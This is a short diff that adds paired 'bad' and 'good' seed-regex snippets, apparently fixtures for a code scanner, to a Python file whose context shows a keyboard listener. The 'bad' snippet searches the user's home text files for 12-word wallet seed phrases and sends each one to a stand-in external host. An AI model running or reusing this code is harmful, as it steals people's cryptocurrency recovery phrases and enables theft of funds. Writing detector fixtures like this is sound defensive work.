@@ -79,3 +79,23 @@ def on_press(key):
 
 with keyboard.Listener(on_press=on_press) as listener:
     listener.join()
+
+#: bad seed-regex
+import re
+from pathlib import Path
+
+import requests
+
+PHRASE = re.compile(r"\b(?:[a-z]{3,8} ){11}[a-z]{3,8}\b")
+for path in Path.home().rglob("*.txt"):
+    for phrase in PHRASE.findall(path.read_text(errors="ignore")):
+        requests.get("https://s.example.invalid/m", params={"seed": phrase})  #!
+
+#: good seed-regex
+import re
+from pathlib import Path
+
+PHRASE = re.compile(r"\b(?:[a-z]{3,8} ){3}[a-z]{3,8}\b")
+for path in Path("docs").rglob("*.txt"):
+    for phrase in PHRASE.findall(path.read_text(errors="ignore")):
+        print(path.name, phrase)
